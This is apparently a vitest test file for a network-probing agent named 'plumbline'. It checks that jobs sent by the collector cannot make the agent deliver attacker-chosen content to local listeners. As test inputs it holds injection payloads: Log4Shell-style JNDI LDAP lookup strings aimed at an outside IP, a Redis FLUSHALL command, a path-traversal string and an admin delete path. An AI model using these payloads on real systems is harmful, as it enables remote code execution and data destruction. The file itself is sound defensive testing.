import { createSocket } from "node:dgram";
import { once } from "node:events";
import { type AddressInfo, createServer } from "node:net";
import { afterEach, beforeEach, expect, it } from "vitest";
import { PINS } from "../support/publisher.ts";
import { type FakeCollector, fakeCollector } from "./support/fake-collector.ts";
import { jobOf } from "./support/scenario.ts";
import { joined } from "./support/test-agent.ts";

const RULES = `format: plumbline-rules/1
agreedBy: a test
notBefore: 2020-01-01T00:00:00Z
notAfter: 2100-01-01T00:00:00Z
allow:
  - { kinds: [tcp-connect, http-request, udp-send], to: [127.0.0.0/8], ports: [1-65535] }
${PINS}`;

let collector: FakeCollector;
const heard: string[] = [];
const tcp = createServer((socket) => {
  socket.on("error", () => undefined);
  socket.on("data", (bytes) => {
    heard.push(bytes.toString("latin1"));
    socket.end("+OK\r\n");
  });
});
const udp = createSocket("udp4");
udp.on("message", (bytes) => heard.push(bytes.toString("latin1")));
beforeEach(async () => {
  collector = await fakeCollector();
  tcp.listen(0, "127.0.0.1");
  udp.bind(0, "127.0.0.1");
  await Promise.all([once(tcp, "listening"), once(udp, "listening")]);
});
afterEach(async () => {
  await collector.close();
  tcp.close();
  udp.close();
});

it("says nothing that its collector could have chosen as a command, a query or a lookup", async () => {
  const agent = await joined(collector, RULES);
  await agent.start();
  await collector.until(() => collector.hellos.length > 0);
  const target = { transport: "tcp", host: "127.0.0.1", port: (tcp.address() as AddressInfo).port } as const;
  const flush = { nonce: Buffer.from("FLUSHALL\r\nPING\r\n") };
  const datagram = { transport: "udp", host: "127.0.0.1", port: udp.address().port } as const;
  const jobs = [
    jobOf("deliver.tcp", { target, tries: 1 }, flush),
    jobOf("deliver.udp", { target: datagram, tries: 1 }, flush),
    jobOf("reach.http", { target, tries: 1 }),
    jobOf("reach.http", { target, tries: 1, path: "/admin/users/1/delete" }),
    ...[`/\${jndi:ldap://203.0.113.9/a}`, "/x?a=b", "/.%2e/etc"].map((path) =>
      jobOf("reach.http", { target, tries: 1 }, { parameters: JSON.stringify({ target, tries: 1, path }) }),
    ),
    jobOf(
      "reach.http",
      { target, tries: 1 },
      { parameters: JSON.stringify({ target, tries: 1, serverName: `\${jndi:ldap://203.0.113.9/b}` }) },
    ),
  ];
  for (const job of jobs) collector.send(job);
  const ended = () => collector.observations.filter(({ outcome }) => outcome.kind === "job-ended");
  await collector.until(() => ended().length >= jobs.length, 15_000);

  const all = heard.join("\n");
  expect(all).toMatch(/plumbline [0-9a-f]{32}/);
  for (const chosen of ["FLUSHALL", "PING", "jndi", "/admin", "/etc", "?a=b"])
    expect(all).not.toContain(chosen);
  expect(
    heard.filter((text) => text.startsWith("GET ")).every((text) => text.startsWith("GET / HTTP/1.1")),
  ).toBe(true);
  expect(
    ended().filter(({ outcome }) => outcome.kind === "job-ended" && outcome.how === "refused"),
  ).toHaveLength(5);
}, 30_000);
